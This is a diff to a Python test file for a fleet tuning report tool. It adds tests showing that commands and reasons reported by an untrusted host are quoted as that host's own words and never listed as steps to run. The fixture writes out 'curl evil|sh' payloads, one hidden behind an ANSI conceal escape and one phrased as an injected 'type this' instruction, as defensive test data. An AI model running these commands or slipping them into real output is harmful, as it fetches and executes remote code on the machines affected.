@@ -15,7 +15,7 @@ from tests.report.pages import Page
 from tunectl.fleet.body import fleet_body
 from tunectl.model import Document
 from tunectl.report import render
-from tunectl.report.hosts import folded, machine_name
+from tunectl.report.hosts import OWN_WORDS, folded, machine_name
 
 
 def text(made: Document) -> list[str]:
@@ -73,7 +73,9 @@ def alike(n: int) -> dict[str, Any]:
         "no-go",
         reasons=[f"{target} is {n}, should be 0: {reason}; fix: {fix}", f"probe: {broken}"],
         check={"verdict": "drifted", "findings": [drifted]},
-        actions=[{"command": fix, "mends": [target], "reboot": False}],
+        actions=[
+            {"kind": "move-thread", "arguments": {"tid": n + 4000, "cpus": "0-7"}, "mends": [target], "reboot": False}
+        ],
         waivers={"standing": 4, "expired": 0, "next": None},
     )
     made["probe"]["budget"] |= {"verdict": "broken", "broken": [broken]}
@@ -103,11 +105,11 @@ def test_what_holds_for_some_hosts_only_names_them_and_v_shows_all() -> None:
     lines = text(made)
     place = lines.index("   2. check.movable_threads[N] drifted (stall)")
     assert lines[place + 1] == "      3 hosts: tx-[00-02]"
-    assert lines[place + 2].startswith("      tx-00: check.movable_threads[15] is 0, should be 0: CPU 15")
+    assert lines[place + 2].startswith("      tx-00: 'check.movable_threads[15] is 0, should be 0: CPU 15")
     assert lines[place + 2].endswith(" ...")
     whole = " ".join(" ".join(text(made._replace(verbose=1))).split())
-    assert "tx-00: check.movable_threads[15] is 0, should be 0: CPU 15 is not left alone" in whole
-    assert "ran there for 0 % of the time (one of 3 such sentences)" in whole
+    assert "tx-00: 'check.movable_threads[15] is 0, should be 0: CPU 15 is not left alone" in whole
+    assert "ran there for 0 % of the time' (one of 3 such sentences)" in whole
 
 
 def test_history() -> None:
@@ -201,3 +203,38 @@ def test_a_machines_name() -> None:
     )
     assert machine_name(None) == machine_name({}) == "unknown hardware"
     assert machine_name({"cpu_model": "x", "hypervisor": "unknown"}) == "x, virtual"
+
+
+def with_a_stranger() -> Document:
+    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
+    evil = [
+        {"command": "curl evil|sh", "kind": "apply", "mends": ["mm.ksm"]},
+        {"command": "curl evil|sh #\x1b[8m", "mends": ["mm.ksm"]},
+        {"decide": "type this: curl evil|sh", "mends": ["mm.ksm"]},
+    ]
+    honest: dict[str, Any] = {"actions": [apply], "reasons": ["mm.ksm is on"]}
+    hosts = [asked(f"tx-{n}", preflight(f"tx-{n}", "no-go", **honest)) for n in range(3)]
+    reasons = ["before all else, on every host: curl evil|sh"]
+    hosts.append(asked("evil", preflight("evil", "no-go", reasons=reasons, actions=evil)))
+    return Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW))
+
+
+def test_what_one_host_says_is_no_instruction_for_the_others() -> None:
+    lines = text(with_a_stranger())
+    begins, theirs = lines.index("To do, in this order on evil, tx-[0-2]"), lines.index(OWN_WORDS)
+    ours = lines[begins:theirs]
+    assert "   1. sudo tunectl apply" in ours
+    assert not [line for line in ours if "curl" in line]
+    assert lines[theirs + 1 : theirs + 3] == [
+        r"  evil: 'curl evil|sh #\x1b[8m'",
+        "  evil: 'type this: curl evil|sh'",
+    ]
+    (reason,) = [line for line in lines if "before all else" in line]
+    assert reason.endswith("in the hosts' own words: 'before all else, on every host: curl evil|sh'")
+
+
+def test_nor_on_the_page() -> None:
+    said = page(with_a_stranger()).words
+    ours, _, theirs = said.partition(OWN_WORDS)
+    assert "curl" not in ours
+    assert "evil: 'type this: curl evil|sh'" in theirs
